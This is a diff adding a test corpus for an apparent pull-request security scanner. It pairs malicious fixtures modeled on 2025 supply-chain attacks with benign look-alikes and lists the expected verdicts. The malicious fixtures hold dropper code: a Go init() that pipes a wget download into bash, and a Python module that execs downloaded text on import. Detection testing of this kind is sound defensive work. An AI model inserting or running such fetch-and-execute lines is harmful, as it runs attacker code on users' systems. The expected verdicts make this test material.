@@ -1,0 +1,144 @@
+/**
+ * Corpus cases modeled on public write-ups of 2025 supply-chain attacks, each beside the benign
+ * look-alike an ordinary project would have. The fixtures are written here after the write-ups'
+ * descriptions; no third-party file is copied.
+ */
+import type { FixtureFile, PrFixture } from '../../support/pr-fixture.js';
+import { makePrFixture } from '../../support/pr-fixture.js';
+import type { CorpusEntry } from '../helpers.js';
+import { daysAgo, lines, nodeCi } from '../helpers.js';
+
+interface AttackPr {
+  readonly repo: string;
+  readonly number: number;
+  readonly title: string;
+  readonly files: FixtureFile[];
+  /** A long-standing member by default (a compromised account looks like one); `newcomer` for a first-time contributor from a fork. */
+  readonly author?: 'member' | 'newcomer';
+}
+
+/** A PR with green CI: only what the change does decides the verdict. */
+function attackPr(spec: AttackPr): PrFixture {
+  const member = spec.author !== 'newcomer';
+  return makePrFixture({
+    owner: 'acme',
+    repo: spec.repo,
+    number: spec.number,
+    title: spec.title,
+    author: member ? { login: 'mchen', association: 'MEMBER', createdAt: '2016-04-01T00:00:00Z' } : { login: 'quickfix-dev', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2025-09-01T00:00:00Z' },
+    fork: !member,
+    files: spec.files,
+    commits: [{ message: spec.title }],
+    checkRuns: nodeCi(),
+    priorPrs: member ? { total: 240, merged: 231 } : { total: 1, merged: 0 },
+    createdAt: daysAgo(1),
+  });
+}
+
+export const ATTACK_CASES: CorpusEntry[] = [
+  {
+    id: 'attack-go-module-init-wget-bash',
+    description: 'Socket, May 2025 (malicious Go modules prototransform, go-mcp, tlsproxy): a helper file whose init() runs `wget -O - https://… | /bin/bash &` through exec.Command("/bin/sh", "-c", …).',
+    fixture: () =>
+      attackPr({
+        repo: 'logx',
+        number: 7101,
+        title: 'Add platform helpers',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'platform.go',
+            head: lines('package logx', '', 'import (', '\t"os/exec"', '\t"runtime"', ')', '', 'func init() {', '\tif runtime.GOOS != "linux" {', '\t\treturn', '\t}', '\texec.Command("/bin/sh", "-c", "wget -O - https://monsoletter.icu/storage/de373d0df/a31546bf | /bin/bash &").Start()', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'], drivers: ['finding:curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-go-cli-prints-install-hint',
+    description: "A Go CLI's doctor command prints how to install a missing tool (a curl | sh line as text) and runs `go version`: nothing downloaded is run.",
+    fixture: () =>
+      attackPr({
+        repo: 'logx',
+        number: 7102,
+        title: 'doctor: explain how to install golangci-lint',
+        files: [
+          {
+            path: 'cmd/logx/doctor.go',
+            base: lines('package main', '', 'import (', '\t"fmt"', '\t"os/exec"', ')', '', 'func doctor() {', '\tout, _ := exec.Command("go", "version").Output()', '\tfmt.Print(string(out))', '}'),
+            head: lines(
+              'package main',
+              '',
+              'import (',
+              '\t"fmt"',
+              '\t"os/exec"',
+              ')',
+              '',
+              'const lintHint = "curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/HEAD/install.sh | sh -s -- -b $(go env GOPATH)/bin"',
+              '',
+              'func doctor() {',
+              '\tout, _ := exec.Command("go", "version").Output()',
+              '\tfmt.Print(string(out))',
+              '\tif _, err := exec.LookPath("golangci-lint"); err != nil {',
+              '\t\tfmt.Println("golangci-lint not found; install it with:", lintHint)',
+              '\t}',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-pypi-exec-of-download',
+    description: 'The dropper of many malicious PyPI packages of 2024-2025: a module that runs `exec(requests.get(URL).text)` when imported.',
+    fixture: () =>
+      attackPr({
+        repo: 'fastconf',
+        number: 7103,
+        title: 'Add remote defaults',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/fastconf/defaults.py',
+            base: lines('DEFAULTS = {"timeout": 30}', '', 'def load():', '    return dict(DEFAULTS)'),
+            head: lines('import requests', '', 'DEFAULTS = {"timeout": 30}', '', "exec(requests.get('https://fastconf-cdn.dev/defaults.py', timeout=5).text)", '', 'def load():', '    return dict(DEFAULTS)'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'], drivers: ['finding:dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-python-fetches-json-config',
+    description: 'A maintainer loads remote defaults with requests.get(...).json(): data read from the network, not code run.',
+    fixture: () =>
+      attackPr({
+        repo: 'fastconf',
+        number: 7104,
+        title: 'Load remote defaults as JSON',
+        files: [
+          {
+            path: 'src/fastconf/defaults.py',
+            base: lines('DEFAULTS = {"timeout": 30}', '', 'def load():', '    return dict(DEFAULTS)', '', '', '', '', '', '', '', 'def render(template, scope):', '    return template.format(**scope)'),
+            head: lines(
+              'import requests',
+              '',
+              'DEFAULTS = {"timeout": 30}',
+              '',
+              'def load(url=None):',
+              '    if url is None:',
+              '        return dict(DEFAULTS)',
+              '    return {**DEFAULTS, **requests.get(url, timeout=5).json()}',
+              '',
+              '',
+              '',
+              '',
+              'def render(template, scope):',
+              '    return template.format(**scope)',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
+  },
+];
